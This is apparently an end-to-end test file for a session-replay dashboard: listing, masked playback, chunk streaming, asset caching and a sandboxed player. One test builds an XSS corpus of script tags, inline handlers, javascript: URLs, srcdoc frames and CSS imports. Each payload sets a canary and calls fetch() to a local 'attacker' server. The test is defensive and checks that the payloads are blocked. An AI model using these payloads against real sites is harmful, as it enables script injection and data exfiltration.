// Issue 10's replays list and player, end to end in Chromium against the real server:
//  1. A session recorded by the SDK on a sample page (replay sample rate 1) is listed on the
//     Replays page; its player shows the first frame with the page's masked text (no canary),
//     the timeline's markers and the activity list, plays, and opens at a moment given by `t=`.
//  2. A truncated session says so in the list and in the player.
//  3. Chunks stream: with every chunk but the first held back, the first frame shows; a seek past
//     what arrived buffers, then lands on the right minute once the chunks are let through.
//  4. An XSS corpus posted straight to /r as forged chunks (full snapshot and later mutations:
//     <script>, inline handlers, javascript: URLs, srcdoc frames, <meta http-equiv=refresh>,
//     <base>, SVG script, forms, CSS url() / @import / @font-face, links, media, frames) is played
//     to its end: no canary global is set in any frame and neither the browser nor the attacker's
//     server sees a request to the attacker's origin. A control run of the same corpus as an
//     ordinary page proves the payloads are live (the canary is set and the attacker is called).
//  5. Assets: a page on a local site whose stylesheet and images come from another origin (a
//     "CDN", allow-listed for the asset cache's address guard), and with a stylesheet of its own,
//     is recorded (its own sheet by content, the rest as URLs); the server fetches the CDN's
//     assets when the chunk arrives and keeps them; both then remove them; the replay still
//     renders styled (computed styles and loaded images inside the player's rebuilt page), and the
//     dashboard's browser requests nothing from any origin but our server.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
// @ts-expect-error: a plain ES module shared with the bench
import { click, custom, Doc, full, input, meta, move, postChunks, textMutation, uuid } from '../bench/replay/gen.mjs';
import { app, dashboardContext, type DashEnv, figure, PHONE, shoot, startDashboardEnv, watchErrors } from './lib/dashboard';
import { BINARY, freePort, REPO, setReplayRate } from './lib/tapistry-server';

let env: DashEnv;
beforeAll(async () => {
  env = await startDashboardEnv();
  setReplayRate(env.tap.data, env.tap.project.project_id, 1);
  await new Promise((r) => setTimeout(r, 5500)); // the server's project cache: 5 s
});
afterAll(async () => {
  await env?.stop();
});

const api = async (path: string) => {
  const sep = path.includes('?') ? '&' : '?';
  const r = await fetch(`${env.tap.origin}${path}${sep}project_id=${env.tap.project.project_id}`, {
    headers: { Authorization: `Bearer ${env.tap.project.read_token}` },
  });
  return r.json() as Promise<any>;
};

async function waitSessions(n: number): Promise<any[]> {
  for (let i = 0; i < 60; i++) {
    const s = (await api('/api/replays')).sessions as any[];
    if (s.length >= n) return s;
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`fewer than ${n} recorded sessions`);
}

/** The frame rrweb rebuilds the recording in: the child of the player frame. */
async function innerFrame(page: Page): Promise<Frame> {
  for (let i = 0; i < 100; i++) {
    const f = page.frames().find((x) => x.parentFrame()?.url().includes('/app/player.html'));
    if (f) return f;
    await page.waitForTimeout(50);
  }
  throw new Error('no rebuilt page inside the player frame');
}

const SHOWN_CANARIES = ['Canarytitle', 'Canaryheading', 'canary.mail', 'Canaryorder', 'Canarymasked', 'Canaryignored', 'Canarylater', 'Canarysaved', 'Canarytyped'];

test('a recorded session: listed, its player shows the masked first frame, markers, activity, plays and links to a moment', async () => {
  // record: the SDK on a sample page, typing and a click, then leaving the page (the beacon)
  const rec = await env.browser.newContext({ viewport: { width: 1280, height: 800 } });
  const firstChunk = (p: Page) => p.waitForResponse((r) => new URL(r.url()).pathname === '/r', { timeout: 30000 });
  const sp = await rec.newPage();
  const chunk0 = firstChunk(sp);
  await sp.goto(env.site + '/static/replay.html');
  await sp.waitForFunction(() => (window as any).tapistry?.loaded === true);
  expect((await chunk0).status()).toBe(200);
  await sp.type('#name', 'Canarytyped');
  await sp.waitForTimeout(1000); // a recording of a few seconds: room to play and pause
  await sp.mouse.move(300, 300);
  await sp.click('#save');
  await sp.waitForTimeout(1200);
  await sp.goto(env.site + '/static/page2.html');
  await sp.waitForTimeout(1500);
  await rec.close();
  const sessions = await waitSessions(1);
  const sid = sessions[0].session_id as string;

  const ctx = await dashboardContext(env);
  const page = await ctx.newPage();
  const errors = watchErrors(page);
  const t0 = Date.now();
  await page.goto(app(env, 'replays'));
  const row = page.locator(`.replays-table tr[data-session="${sid}"]`);
  await row.waitFor();
  await shoot(page, 'replays-list');
  // Filtered by what happened in them: the page visited, the element clicked (from the heatmap's
  // element list), the device — the same sessions the funnel engine finds.
  const listed = async (q: Record<string, string>) => {
    await page.goto(app(env, 'replays', q));
    await page.locator('.replays-table, .state-empty').first().waitFor();
    return page.locator('.replays-table tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.session));
  };
  expect(await listed({ path: '/static/replay.html' })).toContain(sid);
  expect(await listed({ path: '/static/page2.html', device: 'desktop' })).toContain(sid);
  expect(await listed({ path: '/static/nowhere.html' })).toEqual([]);
  await page.getByText('No recorded session matches these filters').waitFor();
  await page.locator('.pill', { hasText: 'Visited /static/nowhere.html' }).waitFor();
  await page.goto(app(env, 'heatmaps', { path: '/static/replay.html', view: 'elements' }));
  const elRow = page.locator('.el-row', { has: page.locator('code', { hasText: 'save' }) }).first();
  await elRow.locator('a.el-replays').click();
  await page.waitForURL(/\/app\/replays\?.*el=/);
  await page.locator('.pill', { hasText: /^Clicked .*save/ }).waitFor();
  await row.waitFor();
  await shoot(page, 'replays-filtered');
  // ordered longest first: the order is in the URL and the list still holds the session
  await page.locator('select[data-field="sort"]').selectOption('longest');
  await page.waitForURL(/sort=longest/);
  await row.waitFor();
  await page.goto(app(env, 'replays'));
  await row.locator('a.replay-link').click();
  await page.locator('.replay-player[data-first-frame="1"]').waitFor({ timeout: 15000 });
  figure('replay player: first frame after opening (sample session, ms)', String(Date.now() - t0));
  expect(new URL(page.url()).searchParams.get('session')).toBe(sid);

  // the walls: the player frame is sandboxed, the rebuilt page script-less
  const outer = page.locator('iframe.replay-frame');
  expect(await outer.getAttribute('sandbox')).toBe('allow-scripts allow-same-origin');
  const inner = await innerFrame(page);
  expect(await (await inner.frameElement()).getAttribute('sandbox')).toBe('allow-same-origin');
  const csp = (await fetch(env.tap.origin + '/app/player.html')).headers.get('content-security-policy') ?? '';
  expect(csp).toContain('sandbox allow-scripts allow-same-origin;');
  expect(csp).toContain("script-src 'self';");
  expect(csp).toContain("connect-src 'none'");

  // the first frame is the page, masked: same shape, no canary
  const title = await inner.locator('#title').textContent({ timeout: 5000 });
  expect(title).toMatch(/^\S+ \S+, \S+ \S+$/);
  for (const word of ['Welcome', 'back', 'Canaryheading', 'Roe']) expect(title).not.toContain(word);
  expect(title!.length).toBe('Welcome back, Canaryheading Roe'.length);
  const shown = await inner.evaluate(() => document.documentElement.outerHTML);
  expect(shown).toContain('id="save"');
  for (const c of SHOWN_CANARIES) expect(shown.includes(c), c).toBe(false);
  await page.waitForSelector('.replay-player[data-loaded="1"]');

  // the timeline: a page view, the click, the input; the activity list mirrors them
  expect(await page.locator('.tl-marker[data-kind="page"]').count()).toBeGreaterThanOrEqual(1);
  expect(await page.locator('.tl-marker[data-kind="click"]').count()).toBeGreaterThanOrEqual(1);
  expect(await page.locator('.tl-marker[data-kind="input"]').count()).toBeGreaterThanOrEqual(1);
  expect(await page.locator('.activity-list li').count()).toBe(await page.locator('.tl-marker').count());
  expect(await page.locator('.replay-url-text').textContent()).toBe(env.site + '/static/replay.html');
  // the page on screen links to its heatmap, under the path the server stores for it
  const heatHref = (await page.getByRole('link', { name: 'Heatmap of this page' }).getAttribute('href'))!;
  expect(new URL(heatHref, env.tap.origin).pathname).toBe('/app/heatmaps');
  expect(new URL(heatHref, env.tap.origin).searchParams.get('path')).toBe('/static/replay.html');
  await shoot(page, 'replay-player');

  // space plays; the clock moves; space pauses; the moment link carries t=
  const at = async () => Number(await page.locator('.replay-player').getAttribute('data-time'));
  await page.locator('body').press(' ');
  await page.waitForFunction(() => Number(document.querySelector('.replay-player')!.getAttribute('data-time')) > 300);
  await page.locator('body').press(' ');
  await page.locator('.replay-play[aria-label^="Play"]').waitFor();
  await page.waitForTimeout(300); // the frame's last report of the clock
  const paused = await at();
  await page.waitForTimeout(600);
  expect(await at()).toBe(paused);
  // clicking an activity entry seeks there
  const clickEntry = page.locator('.activity-click button').first();
  await clickEntry.click();
  const clickT = await at();
  expect(await page.locator('.activity-click').first().getAttribute('aria-current')).toBe('true');
  const link = await page.locator('[data-moment-link]').getAttribute('href');
  const linkT = Number(new URL(link!).searchParams.get('t'));
  expect(Math.abs(linkT * 1000 - clickT)).toBeLessThanOrEqual(100);

  // the link opens the player at that moment
  const p2 = await ctx.newPage();
  await p2.goto(link!);
  await p2.locator('.replay-player[data-first-frame="1"][data-loaded="1"]').waitFor();
  await p2.waitForFunction((t) => Math.abs(Number(document.querySelector('.replay-player')!.getAttribute('data-time')) - t) < 200, linkT * 1000);
  // a phone: the activity list goes below, nothing runs off the side
  await p2.setViewportSize(PHONE);
  await p2.waitForTimeout(300);
  expect(await p2.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  await shoot(p2, 'replay-player');
  expect(errors).toEqual([]);
  await ctx.close();
});

test('a truncated session says so in the list and the player; an idle stretch is skipped', async () => {
  const d = new Doc();
  const body = [d.el('h1', {}, [d.text('Xxxxx')])];
  const node = d.document([], body);
  const start = Date.now() - 60000;
  const sid = uuid();
  await postChunks(env.tap.origin, env.tap.project.public_key, env.site, sid, [
    meta(start, env.site + '/static/truncated.html'),
    full(start + 5, node),
    move(start + 1000, 10, 10),
    // 24 s without a move: idle
    move(start + 25000, 20, 20),
    custom(start + 26000, 'tapistry.truncated', { bytes: 3145728, cap: 3145728 }),
  ]);
  const ctx = await dashboardContext(env);
  const page = await ctx.newPage();
  await page.goto(app(env, 'replays'));
  await page.locator(`.replays-table tr[data-session="${sid}"] .badge`).filter({ hasText: 'truncated' }).waitFor();
  await page.locator(`.replays-table tr[data-session="${sid}"] a.replay-link`).click();
  await page.locator('.replay-player[data-first-frame="1"][data-loaded="1"]').waitFor();
  expect(await page.locator('[data-truncated]').textContent()).toBe('truncated');
  expect(await page.locator('.tl-marker[data-kind="truncated"]').count()).toBe(1);
  expect(await page.locator('.activity-truncated').count()).toBe(1);
  // skip inactivity (on by default): the idle stretch is drawn compressed and jumped over
  expect(await page.locator('.tl-idle').count()).toBe(1);
  expect(await page.locator('.replay-skip input').isChecked()).toBe(true);
  const t0 = Date.now();
  await page.locator('.replay-play').click();
  await page.waitForFunction(() => Number(document.querySelector('.replay-player')!.getAttribute('data-time')) >= 24500, undefined, { timeout: 10000 });
  expect(Date.now() - t0).toBeLessThan(8000); // 24 s of recording at 1×
  await ctx.close();
});

test('chunks stream: the first frame shows before the rest arrives; a seek past them buffers, then lands', async () => {
  // 5 minutes in 10 chunks, a full snapshot every minute, a text that says which minute it is
  const d = new Doc();
  const minute = d.text('minute 0');
  const node = d.document([], [d.el('h1', { id: 'm' }, [minute])]);
  const start = Date.now() - 600_000;
  const events: any[] = [];
  for (let t = 0; t < 300_000; t += 1000) {
    if (t % 60_000 === 0) events.push(meta(start + t, env.site + '/static/stream.html'), full(start + t + 1, node));
    events.push(move(start + t + 2, 10 + (t % 500), 10), textMutation(start + t + 3, minute.id, `minute ${Math.floor(t / 60_000)}`));
  }
  const sid = uuid();
  expect(await postChunks(env.tap.origin, env.tap.project.public_key, env.site, sid, events, 61)).toBe(10);

  const ctx = await dashboardContext(env);
  // hold back every chunk but the first until the test lets them go
  let release = () => {};
  const gate = new Promise<void>((r) => (release = r));
  await ctx.route(/\/chunks\/[1-9]\d*\?/, async (route) => {
    await gate;
    await route.continue();
  });
  const page = await ctx.newPage();
  await page.goto(app(env, 'replays', { session: sid }));
  const root = page.locator('.replay-player');
  await page.locator('.replay-player[data-first-frame="1"]').waitFor();
  expect(await root.getAttribute('data-loaded')).toBeNull();
  const inner = await innerFrame(page);
  expect(await inner.locator('#m').textContent()).toBe('minute 0');
  // the timeline already spans the whole session (from the index)
  expect(Number(await root.getAttribute('data-duration'))).toBeGreaterThan(290_000);
  // seek to 4:10, not downloaded yet
  const bar = (await page.locator('.replay-timeline').boundingBox())!;
  await page.locator('.replay-skip input').uncheck(); // a linear timeline: x → time
  await page.mouse.click(bar.x + bar.width * (250 / 300), bar.y + bar.height / 2);
  await page.locator('.replay-overlay').filter({ hasText: 'Buffering' }).waitFor();
  release();
  await page.locator('.replay-player[data-loaded="1"]').waitFor();
  await page.waitForFunction(() => !document.querySelector('.replay-overlay'));
  // it landed there: rebuilt from the 4:00 full snapshot plus what follows
  await expect.poll(() => inner.locator('#m').textContent(), { timeout: 5000 }).toBe('minute 4');
  const t = Number(await root.getAttribute('data-time'));
  expect(Math.abs(t - 250_000)).toBeLessThan(2000);
  // keys: ← goes back 10 s (and does not move the dashboard's period), ↑ speeds up
  await page.locator('body').press('ArrowLeft');
  await page.locator('body').press('ArrowLeft');
  await expect.poll(async () => Number(await root.getAttribute('data-time')), { timeout: 5000 }).toBeLessThan(t - 19000);
  await expect.poll(() => inner.locator('#m').textContent(), { timeout: 5000 }).toBe('minute 3');
  expect(new URL(page.url()).searchParams.has('from')).toBe(false);
  expect(await page.locator('.replay-speed select').inputValue()).toBe('1');
  await page.locator('body').press('ArrowUp');
  expect(await page.locator('.replay-speed select').inputValue()).toBe('2');
  await page.locator('body').press('ArrowDown');
  await ctx.close();
});

// ---- the XSS corpus ----

interface Attacker {
  origin: string;
  log: string[];
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;
  const log: string[] = [];
  const server: Server = createServer((req, res) => {
    log.push(`${req.method} ${req.url}`);
    const path = (req.url ?? '/').split('?')[0]!;
    if (path.endsWith('.css')) {
      res.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' });
      res.end(`body { background: url(${origin}/from-css.png) }`);
    } else {
      res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
      res.end(`<!doctype html><script>fetch('${origin}/frame-script-ran')</script>`);
    }
  });
  await new Promise<void>((r) => server.listen(port, '127.0.0.1', r));
  return { origin, log, close: () => new Promise((r) => server.close(() => r())) };
}

/** Script that proves it ran: a canary global wherever it can reach, and a call home. */
const pwn = (att: string, tag: string) =>
  `window.__pwned=(window.__pwned||[]).concat('${tag}');try{parent.__pwned='${tag}'}catch(e){};try{top.__pwned='${tag}'}catch(e){};fetch('${att}/ran-${tag}').catch(function(){})`;

/** The corpus: every way we know for recorded HTML to run script or load from another origin. */
function corpus(d: any, att: string) {
  const style = (css: string) => d.el('style', {}, [{ ...d.text(css), isStyle: true }]);
  const head = [
    d.el('base', { href: att + '/' }),
    d.el('meta', { 'http-equiv': 'refresh', content: `0;url=${att}/meta-refresh` }),
    d.el('script', {}, [d.text(pwn(att, 'head-script'))]),
    d.el('script', { src: att + '/external.js' }),
    d.el('link', { rel: 'stylesheet', href: att + '/link.css' }),
    d.el('link', { rel: 'stylesheet', href: 'relative.css' }),
    d.el('link', { rel: 'stylesheet', _cssText: `@import url(${att}/cssText-import.css); body { border-image: url(${att}/cssText.png) }` }),
    d.el('link', { rel: 'prefetch', href: att + '/prefetch' }),
    d.el('link', { rel: 'preload', as: 'image', href: att + '/preload.png' }),
    d.el('link', { rel: 'icon', href: att + '/favicon.ico' }),
    style(
      `@import url(${att}/import.css); @import "${att}/import-string.css"; ` +
        `@font-face { font-family: Evil; src: url(${att}/font.woff2); } ` +
        `body { background: url("${att}/bg.png"); font-family: Evil; } .c { cursor: url(${att}/cursor.png), auto; list-style-image: url(${att}/list.png) }`,
    ),
  ];
  const body = [
    d.el('p', { id: 'visible', class: 'c' }, [d.text('corpus visible')]),
    d.el('script', {}, [d.text(pwn(att, 'body-script'))]),
    d.el('img', { src: 'x-missing.png', onerror: pwn(att, 'img-onerror') }),
    d.el('img', { src: att + '/img.png', srcset: `${att}/img-2x.png 2x` }),
    d.el('div', { onmouseover: pwn(att, 'onmouseover'), style: `background: url(${att}/inline-style.png); width: 50px; height: 50px` }),
    d.el('a', { id: 'jslink', href: `javascript:${pwn(att, 'javascript-url')}` }, [d.text('a javascript: link')]),
    d.el('iframe', { srcdoc: `<script>${pwn(att, 'srcdoc')}</script><img src="${att}/srcdoc.png">` }),
    d.el('iframe', { src: att + '/frame.html' }),
    d.el('svg', { xmlns: 'http://www.w3.org/2000/svg', onload: pwn(att, 'svg-onload'), width: '10', height: '10' }, [
      d.el('script', {}, [d.text(pwn(att, 'svg-script'))], { isSVG: true }),
      d.el('image', { href: att + '/svg-image.png', width: '5', height: '5' }, [], { isSVG: true }),
    ], { isSVG: true }),
    d.el('form', { id: 'form', action: att + '/form', method: 'post' }, [d.el('input', { name: 'q', value: 'x', autofocus: '' }), d.el('button', { id: 'submit' }, [d.text('Go')])]),
    d.el('object', { data: att + '/object' }),
    d.el('embed', { src: att + '/embed' }),
    d.el('video', { src: att + '/video.mp4', poster: att + '/poster.png', autoplay: '' }),
    d.el('audio', { src: att + '/audio.mp3', autoplay: '' }),
    d.el('input', { type: 'image', src: att + '/input-image.png' }),
    d.el('details', { open: '', ontoggle: pwn(att, 'ontoggle') }, [d.text('details')]),
  ];
  return { head, body };
}

/** The corpus as an ordinary HTML page (the control run). */
function toHtml(n: any): string {
  if (n.type === 0) return '<!doctype html>' + n.childNodes.filter((c: any) => c.type !== 1).map(toHtml).join('');
  if (n.type === 3) return n.textContent;
  const attrs = Object.entries(n.attributes as Record<string, string>)
    .filter(([k]) => !k.startsWith('_'))
    .map(([k, v]) => ` ${k}="${String(v).replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"`)
    .join('');
  return `<${n.tagName}${attrs}>${n.childNodes.map(toHtml).join('')}</${n.tagName}>`;
}

test('the XSS corpus, posted as forged chunks and played to its end, runs no script and calls no other origin', async () => {
  const att = await startAttacker();
  try {
    const d = new Doc();
    const { head, body } = corpus(d, att.origin);
    const node = d.document(head, body, { onload: pwn(att.origin, 'body-onload') });
    const start = Date.now() - 120000;
    const sid = uuid();
    // later chunks: the same payloads arriving as mutations (nodes added, attributes changed)
    const d2 = { next: d.next, id() { return this.next++; }, el: Doc.prototype.el, text: Doc.prototype.text };
    const later = corpus(d2, att.origin);
    const visibleId = body[0].id;
    const bodyId = node.childNodes[1].childNodes[1].id;
    const adds = [...later.head, ...later.body].map((n: any) => ({ parentId: bodyId, nextId: null, node: n }));
    const events = [
      meta(start, env.site + '/static/xss.html'),
      full(start + 5, node),
      move(start + 500, 20, 20),
      click(start + 700, visibleId, 20, 20),
      { type: 3, timestamp: start + 1000, data: { source: 0, texts: [], removes: [], adds, attributes: [] } },
      {
        type: 3,
        timestamp: start + 1500,
        data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: visibleId, attributes: { onclick: pwn(att.origin, 'attr-onclick'), style: `background:url(${att.origin}/attr-style.png)` } }] },
      },
      textMutation(start + 1800, body[0].childNodes[0].id, 'corpus visible'),
      input(start + 2000, visibleId, '***'),
      meta(start + 2500, `javascript:${pwn(att.origin, 'meta-href')}`),
      full(start + 2505, node),
      move(start + 3000, 30, 30),
    ];
    await postChunks(env.tap.origin, env.tap.project.public_key, env.site, sid, events, 4);

    // control: the same corpus as an ordinary page runs its payloads and calls the attacker
    {
      const ctx = await env.browser.newContext();
      const page = await ctx.newPage();
      await page.setContent(toHtml(node));
      for (let i = 0; i < 40 && !att.log.some((l) => l.includes('/ran-')); i++) await page.waitForTimeout(100);
      expect(att.log.some((l) => l.includes('/ran-'))).toBe(true);
      await ctx.close();
      att.log.length = 0;
    }

    const ctx = await dashboardContext(env);
    // request interception: every request that leaves the browser for another origin is caught
    // (and aborted); a load the CSP refuses never gets this far
    const intercepted: string[] = [];
    const foreign = (u: URL) => u.origin !== env.tap.origin && /^https?:$/.test(u.protocol);
    await ctx.route(foreign, (route) => {
      intercepted.push(route.request().url());
      void route.abort();
    });
    // what the page tried: each attempt must end refused by the CSP
    const attempted = new Map<string, string>();
    ctx.on('request', (r) => {
      if (foreign(new URL(r.url()))) attempted.set(r.url(), 'pending');
    });
    ctx.on('requestfailed', (r) => {
      if (attempted.has(r.url())) attempted.set(r.url(), r.failure()?.errorText ?? '');
    });
    const page = await ctx.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dlg) => {
      dialogs.push(dlg.message());
      void dlg.dismiss();
    });
    await page.goto(app(env, 'replays', { session: sid }));
    await page.locator('.replay-player[data-first-frame="1"][data-loaded="1"]').waitFor({ timeout: 15000 });
    const inner = await innerFrame(page);
    expect(await inner.locator('#visible').textContent()).toBe('corpus visible');
    // play to the end (3 s, nothing idle to skip), then act like a curious user inside the page
    await page.locator('body').press(' ');
    await page.waitForFunction(() => Number(document.querySelector('.replay-player')!.getAttribute('data-time')) >= 2900, undefined, { timeout: 15000 });
    await page.waitForTimeout(500);
    const frame = await innerFrame(page);
    await frame.evaluate(() => {
      (document.getElementById('jslink') as HTMLAnchorElement | null)?.click();
      (document.getElementById('submit') as HTMLButtonElement | null)?.click();
      document.querySelectorAll('[onmouseover],[onclick]').forEach((e) => e.dispatchEvent(new MouseEvent('mouseover')));
    }).catch(() => {});
    await page.waitForTimeout(1500);

    // no canary in any frame
    for (const f of page.frames()) {
      const v = await f.evaluate(() => (window as any).__pwned).catch(() => undefined);
      expect(v, `canary in ${f.url()}`).toBeUndefined();
    }
    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
    // no request to another origin: neither seen by the browser nor received by the attacker
    expect(intercepted).toEqual([]);
    expect(att.log).toEqual([]);
    expect([...attempted].filter(([, how]) => how !== 'csp' && how !== 'net::ERR_BLOCKED_BY_CSP')).toEqual([]);
    expect(dialogs).toEqual([]);
    // the player frame is still the player (no navigation away by refresh or base)
    expect(page.frames().some((f) => f.url().includes('/app/player.html'))).toBe(true);
    figure('replay XSS corpus in the player', `no canary set, no request to another origin; ${attempted.size} loads of other origins attempted by the rebuilt page, all refused by the CSP; its assets went to our asset route, whose guard refused the attacker's loopback origin (the control run as a plain page: payloads ran)`);
    await ctx.close();
  } finally {
    await att.close();
  }
});

// ---- assets ----

/** A 1×1 PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

/** A local HTTP server: `handler` answers, every request path is logged. */
async function localServer(handler: (path: string) => { type: string; body: string | Buffer } | null) {
  const port = await freePort();
  const log: string[] = [];
  const server: Server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    log.push(path);
    const r = handler(path);
    if (!r) {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('gone');
      return;
    }
    res.writeHead(200, { 'content-type': r.type, 'cache-control': 'no-store' });
    res.end(r.body);
  });
  await new Promise<void>((r) => server.listen(port, '127.0.0.1', r));
  return { origin: `http://127.0.0.1:${port}`, log, close: () => new Promise<void>((r) => server.close(() => r())) };
}

async function keptAssets(): Promise<number> {
  const m = await (await fetch(env.tap.origin + '/metrics')).text();
  const hit = /^tapistry_replay_assets_total\{outcome="stored"\} (\d+)/m.exec(m);
  return hit ? Number(hit[1]) : 0;
}

test('assets: a cross-origin stylesheet and images render from our asset cache after the site removed them, and nothing else is requested', async () => {
  // the CDN: a stylesheet (a colour, a size, a background image) and an image, until removed
  let removed = false;
  const cdn = await localServer((path) => {
    if (removed) return null;
    if (path === '/theme.css') {
      return { type: 'text/css', body: '#title { color: rgb(12, 34, 56); letter-spacing: 3px } #hero { width: 40px; height: 30px; background-image: url(bg.png) }' };
    }
    if (path === '/logo.png' || path === '/bg.png') return { type: 'image/png', body: PNG };
    return null;
  });
  // the shop: the page, with the snippet, that uses the CDN
  const manifest = (await (await fetch(env.tap.origin + '/v1/manifest.json')).json()) as { files: Record<string, { integrity: string }> };
  const snippet = readFileSync(join(REPO, 'e2e', 'sites', 'snippet.html'), 'utf8')
    .replace(/\{\{ORIGIN\}\}/g, env.tap.origin)
    .replace(/\{\{KEY\}\}/g, env.tap.project.public_key)
    .replace(/\{\{SRI\}\}/g, manifest.files['tapistry.js']!.integrity)
    .replace(/\{\{NONCE\}\}/g, 'n');
  // the shop: the page, with the snippet, that uses the CDN, and a stylesheet of its own
  const shop = await localServer((path) => {
    if (path === '/site.css') return removed ? null : { type: 'text/css', body: '#sub { color: rgb(200, 100, 50); margin-left: 17px }' };
    if (path !== '/assets.html') return null;
    return {
      type: 'text/html; charset=utf-8',
      body: `<!doctype html><html><head><meta charset="utf-8"><title>Assets</title>
<link rel="stylesheet" href="${cdn.origin}/theme.css"><link rel="stylesheet" href="/site.css">${snippet}</head>
<body><h1 id="title">Styled from elsewhere</h1><p id="sub">Styled here</p><div id="hero"></div><img id="logo" src="${cdn.origin}/logo.png" alt="logo"></body></html>`,
    };
  });
  try {
    // the project accepts the shop's events, and its asset fetches may reach the two loopback
    // origins (the address guard refuses loopback addresses unless allow-listed)
    execFileSync(BINARY, ['project', 'settings', '--data', env.tap.data, '--project', env.tap.project.project_id, '--origin', env.site, '--origin', shop.origin, '--origin', cdn.origin], { encoding: 'utf8' });
    await new Promise((r) => setTimeout(r, 5500)); // the server's project cache: 5 s
    const before = new Set(((await api('/api/replays')).sessions as any[]).map((s) => s.session_id as string));
    const keptBefore = await keptAssets();

    // record
    const rec = await env.browser.newContext({ viewport: { width: 800, height: 600 } });
    const sp = await rec.newPage();
    const chunk0 = sp.waitForResponse((r) => new URL(r.url()).pathname === '/r', { timeout: 30000 });
    await sp.goto(shop.origin + '/assets.html');
    await sp.waitForFunction(() => (window as any).tapistry?.loaded === true);
    expect(await sp.evaluate(() => getComputedStyle(document.getElementById('title')!).color)).toBe('rgb(12, 34, 56)');
    expect((await chunk0).status()).toBe(200);
    await sp.waitForTimeout(1000);
    await rec.close();
    let sid = '';
    for (let i = 0; i < 60 && !sid; i++) {
      sid = ((await api('/api/replays')).sessions as any[]).map((s) => s.session_id as string).find((s) => !before.has(s)) ?? '';
      if (!sid) await new Promise((r) => setTimeout(r, 250));
    }
    expect(sid).not.toBe('');

    // the server fetched the three assets when the chunk arrived, and kept them
    for (let i = 0; i < 100 && (await keptAssets()) < keptBefore + 3; i++) await new Promise((r) => setTimeout(r, 100));
    expect(await keptAssets()).toBeGreaterThanOrEqual(keptBefore + 3);
    const cdnBeforeRemoval = cdn.log.length; // the recording browser's 3 loads and the server's 3 fetches
    // the same-origin sheet was recorded by its rules: only the recording browser loaded it
    expect(shop.log.filter((p) => p === '/site.css')).toEqual(['/site.css']);
    // the CDN removes its assets, the shop its stylesheet
    removed = true;
    expect((await fetch(cdn.origin + '/theme.css')).status).toBe(404);
    expect((await fetch(shop.origin + '/site.css')).status).toBe(404);
    const cdnAfterRemoval = cdn.log.length;

    // play: every request the dashboard's browser makes goes to our server
    const ctx = await dashboardContext(env);
    const requests: string[] = [];
    ctx.on('request', (r) => requests.push(r.url()));
    const page = await ctx.newPage();
    const errors = watchErrors(page);
    await page.goto(app(env, 'replays', { session: sid }));
    await page.locator('.replay-player[data-first-frame="1"]').waitFor({ timeout: 15000 });
    const inner = await innerFrame(page);
    await inner.waitForFunction(() => {
      const logo = document.getElementById('logo') as HTMLImageElement | null;
      return !!logo && logo.complete && logo.naturalWidth > 0;
    }, undefined, { timeout: 10000 });
    const shown = await inner.evaluate(() => {
      const t = getComputedStyle(document.getElementById('title')!);
      const h = getComputedStyle(document.getElementById('hero')!);
      const logo = document.getElementById('logo') as HTMLImageElement;
      const sub = getComputedStyle(document.getElementById('sub')!);
      return {
        color: t.color, spacing: t.letterSpacing, width: h.width, height: h.height, bg: h.backgroundImage, logo: logo.naturalWidth, logoSrc: logo.src,
        subColor: sub.color, subMargin: sub.marginLeft,
      };
    });
    expect(shown.subColor).toBe('rgb(200, 100, 50)');
    expect(shown.subMargin).toBe('17px');
    expect(shown.color).toBe('rgb(12, 34, 56)');
    expect(shown.spacing).toBe('3px');
    expect(shown.width).toBe('40px');
    expect(shown.height).toBe('30px');
    expect(shown.logo).toBe(1);
    expect(new URL(shown.logoSrc).origin).toBe(env.tap.origin);
    expect(new URL(shown.logoSrc).pathname).toBe('/api/replay-asset');
    // the stylesheet's own background image came through the route too (kept with the sheet)
    expect(shown.bg).toContain(env.tap.origin + '/api/replay-asset?project_id=');
    const bgLoaded = await inner.evaluate(async (u) => {
      const img = new Image();
      img.src = u;
      await img.decode().catch(() => {});
      return img.naturalWidth;
    }, /url\("(.*)"\)/.exec(shown.bg)![1]!);
    expect(bgLoaded).toBe(1);

    const http = requests.filter((u) => /^https?:/.test(u));
    expect(http.filter((u) => new URL(u).origin !== env.tap.origin)).toEqual([]);
    expect(http.some((u) => u.includes('/api/replay-asset?') && u.includes(encodeURIComponent(cdn.origin + '/theme.css')))).toBe(true);
    // the CDN saw nothing after the removal: the server served what it kept
    expect(cdn.log.length).toBe(cdnAfterRemoval);
    expect(errors).toEqual([]);
    figure('replay assets', `CDN requests before its removal ${cdnBeforeRemoval} (the page's and the server's), after it 0; the replay rendered styled; ${http.length} requests from the dashboard, all to our origin`);
    await shoot(page, 'replay-assets');
    await ctx.close();
  } finally {
    execFileSync(BINARY, ['project', 'settings', '--data', env.tap.data, '--project', env.tap.project.project_id, '--origin', env.site], { encoding: 'utf8' });
    await cdn.close();
    await shop.close();
  }
});
